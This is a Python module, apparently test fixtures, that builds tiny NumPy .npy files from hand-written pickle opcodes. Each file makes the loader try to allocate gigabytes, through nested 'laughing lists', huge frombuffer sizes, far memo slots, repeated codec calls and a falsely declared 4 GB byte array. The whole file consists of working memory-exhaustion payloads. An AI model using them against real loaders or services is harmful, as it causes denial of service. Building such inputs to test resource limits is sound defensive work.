"""Dictionaries of codes of a few bytes that ask for gigabytes, each in another way."""

from __future__ import annotations

import io
import struct

import numpy as np


def _header() -> bytes:
    sink = io.BytesIO()
    np.lib.format.write_array_header_1_0(sink, {"descr": "|O", "fortran_order": False, "shape": ()})
    return sink.getvalue()


HEADER = _header()
_ARRAY = b"cnumpy._core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\0\x85C\x01btR"
_FLOATS = b"cnumpy\ndtype\nX\2\0\0\0f4\x85R"


def _number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _file(value: bytes) -> bytes:
    """A numpy file of the dictionary {"a": value}, all of it written as instructions."""
    dictionary = b"}X\1\0\0\0a" + value + b"s"
    objects = b"(K\1)cnumpy\ndtype\nX\2\0\0\0O8\x85R\x89](" + dictionary + b"etb"
    return HEADER + b"\x80\2" + _ARRAY + objects + b"."


def _buffer(rows: int, raw: bytes) -> bytes:
    """`numpy._core.numeric._frombuffer(raw, float32, (rows, 512), "C")`."""
    shape = _number(rows) + b"M\0\2\x86"
    return b"cnumpy._core.numeric\n_frombuffer\n(" + raw + _FLOATS + shape + b"X\1\0\0\0CtR"


_ONE_CODE = _buffer(1, b"B" + struct.pack("<I", 2048) + bytes(2048))


def zeros_from_a_number(gigabytes: int = 2) -> bytes:
    """An array whose bytes are a number: `bytes(n)` is n zeros."""
    rows = (gigabytes << 30) // 2048 - 1
    return _file(_buffer(rows, _number(rows * 2048)))


def far_memo() -> bytes:
    """A slot of the memo far behind the others, which Python's unpickler makes room for."""
    return HEADER + b"\x80\2}r" + struct.pack("<I", 1 << 28) + b"."


def laughing_lists(depth: int = 30) -> bytes:
    """Lists of lists, nine times each: nine to the power of `depth` when they are walked."""
    nested = _ONE_CODE
    for slot in range(1, depth + 1):
        nested = b"](" + nested + bytes([ord("q"), slot]) + bytes([ord("h"), slot]) * 8 + b"e"
    return _file(nested)


def repeated_code(times: int = 8000) -> bytes:
    """One code, named again and again."""
    return _file(b"](" + _ONE_CODE + b"q\1" + b"h\1" * times + b"e")


def repeated_names(times: int = 50_000) -> bytes:
    """One text that is encoded again and again."""
    text = b"X" + struct.pack("<I", 1 << 20) + b"x" * (1 << 20) + b"q\1"
    encoded = b"c_codecs\nencode\n(h\1X\6\0\0\0latin1tR"
    return _file(b"](" + text + encoded * times + b"e")


def many_records(times: int = 1_000_000) -> bytes:
    """An object of a hundred bytes for every three of the file."""
    return _file(b"](cnumpy\nndarray\nq\1" + b"h\1)R" * times + b"e")


def promised_bytes() -> bytes:
    """A byte array of gigabytes of which nothing is there."""
    return HEADER + b"\x80\5\x96" + struct.pack("<Q", 4 << 30) + b"xx"


HUNGRY = {
    "zeros from a number": zeros_from_a_number(),
    "a far memo": far_memo(),
    "laughing lists": laughing_lists(),
    "a repeated code": repeated_code(),
    "a code repeated beyond counting": repeated_code(1_000_000),
    "a repeated text": repeated_names(),
    "many records": many_records(),
    "promised bytes": promised_bytes(),
}
